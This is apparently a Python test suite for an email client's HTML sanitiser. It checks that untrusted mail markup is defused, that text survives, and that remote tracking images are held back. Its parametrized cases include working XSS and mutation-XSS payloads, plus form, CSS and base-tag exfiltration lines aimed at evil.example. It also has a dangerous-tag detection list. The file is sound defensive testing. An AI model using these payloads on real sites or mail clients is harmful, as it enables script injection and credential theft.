"""Other people's HTML can do nothing here, and its words survive."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from dromos.ui.safe_html import LONGEST, sanitise

DANGEROUS_TAGS = (
    "script, style, iframe, frame, object, embed, form, input, textarea, select, button, link, meta, base, svg, math"
)


def problems(html: str) -> list[str]:
    """What a browser could be made to do by ``html``."""
    found = []
    tree = LexborHTMLParser(f"<div>{html}</div>")
    found += [f"element {node.tag}" for node in tree.css(DANGEROUS_TAGS)]
    for node in tree.css("div *"):
        for name, value in node.attributes.items():
            address = re.sub(r"[\s\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name in {"style", "srcdoc", "srcset", "background", "formaction", "id", "name"}:
                found.append(f"attribute {name}")
            if name in {"href", "src"} and address.startswith(
                ("javascript:", "vbscript:", "data:text", "data:image/svg")
            ):
                found.append(f"{name}={value}")
            if node.tag == "img" and name == "src" and address.startswith(("http", "//")):
                found.append(f"remote {value}")
    return found


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" &#14; java&#x0a;script:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<form action="https://evil.example"><input name=password><button>go</button></form>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<div style="background:url(https://evil.example/x)">x</div>',
        '<table background="https://evil.example/x"><tr><td>x</td></tr></table>',
        '<link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv=refresh content="0;url=https://evil.example">',
        '<base href="https://evil.example/"><a href="/login">x</a>',
        '<img srcset="https://evil.example/x 1x" alt="a">',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<b id=csrf name=csrf>clobbered</b>",
        '<img alt="&quot;><script>alert(1)</script>">',
        '<img alt="a>b" title="<img src=x onerror=alert(1)>">',
        '<blockquote type="cite"><script>alert(1)</script><img src=x onerror=alert(1)></blockquote>',
        '<div class="gmail_quote" onclick="alert(1)"><a href="javascript:alert(1)">x</a></div>',
    ],
)
@pytest.mark.parametrize("fold", ["", "Earlier letters"])
def test_nothing_of_a_letter_can_act(html: str, fold: str) -> None:
    assert problems(sanitise(html, fold=fold).html) == []


@given(st.text(alphabet="<>\"'=/ abimgscriptonerrorjavascript:&;#x0\x00\n", max_size=120))
def test_no_scrap_of_markup_can_act(scrap: str) -> None:
    assert problems(sanitise(scrap, fold="Earlier").html) == []
    assert problems(sanitise(f'<img alt="{scrap}" title={scrap}>', fold="Earlier").html) == []


def test_pictures_from_elsewhere_wait_until_they_are_asked_for() -> None:
    html = (
        '<p>See <img src="https://tracker.example/p.gif" alt="our offer"><img src="https://tracker.example/1.gif"></p>'
    )
    held = sanitise(html)
    assert held.blocked == 2
    assert "tracker.example" not in held.html
    assert "our offer" in held.html
    shown = sanitise(html, pictures=True)
    assert shown.blocked == 0
    assert 'src="https://tracker.example/p.gif"' in shown.html


def test_pictures_inside_the_letter_are_shown_from_our_own_address() -> None:
    shown = sanitise('<img src="cid:Logo@x" alt="logo"><img src="cid:unknown">', cid={"Logo@x": "/files/7/"})
    assert 'src="/files/7/"' in shown.html
    assert "cid:" not in shown.html


def test_small_pictures_in_the_text_itself_are_shown_but_nothing_else_as_data() -> None:
    dot = "data:image/png;base64,iVBORw0KGgo="
    assert dot in sanitise(f'<img src="{dot}">').html
    assert "svg" not in sanitise('<img src="data:image/svg+xml;base64,AAAA">').html
    assert "data:" not in sanitise('<a href="data:image/png;base64,AAAA">x</a>').html


def test_earlier_letters_are_folded_once_and_kept() -> None:
    html = '<p>New.</p><div class="gmail_quote">On Monday<blockquote type="cite">Old <b>words</b></blockquote></div>'
    folded = sanitise(html, fold="Earlier letters").html
    assert folded.startswith("<p>New.</p><details")
    assert folded.count("<details") == 1
    assert "<summary>Earlier letters</summary>" in folded
    assert "Old <b>words</b>" in folded


def test_the_word_on_the_fold_is_only_a_word() -> None:
    assert "<b>" not in sanitise("<blockquote type=cite>x</blockquote>", fold="<b>x</b>").html


def test_visible_words_survive() -> None:
    html = (
        "<table><tr><td>Ο δρόμος</td></tr></table><font color=red>červeně</font><button>Odeslat</button><abc>x1</abc>"
    )
    text = LexborHTMLParser(sanitise(html).html).text()
    assert all(word in text for word in ("Ο δρόμος", "červeně", "Odeslat", "x1"))


@pytest.mark.parametrize("unit", ["<div>", "<b><p>", "<b><i><u>", "<blockquote type=cite>", "<font color=red>"])
def test_elements_without_end_do_not_hold_a_page_up(unit: str) -> None:
    started = time.process_time()
    safe = sanitise(f"<p>before</p>{unit * 20_000}<i>after</i> &lt;b&gt;", fold="Earlier")
    assert time.process_time() - started < 2
    assert re.sub(r"\s|<br>|</?p>", "", safe.html) == "beforeafter&lt;b&gt;"


def test_of_an_enormous_letter_all_words_are_shown() -> None:
    html = "<p>one <script>never()</script></p>" * 50_000
    assert len(html) > LONGEST
    assert sanitise(html).html.count("one") == 50_000
    assert "never" not in sanitise(html).html


def test_links_leave_without_telling_where_they_came_from() -> None:
    link = sanitise('<a href="https://meridian.example/">x</a>').html
    assert 'rel="noopener noreferrer nofollow"' in link
    assert 'target="_blank"' in link
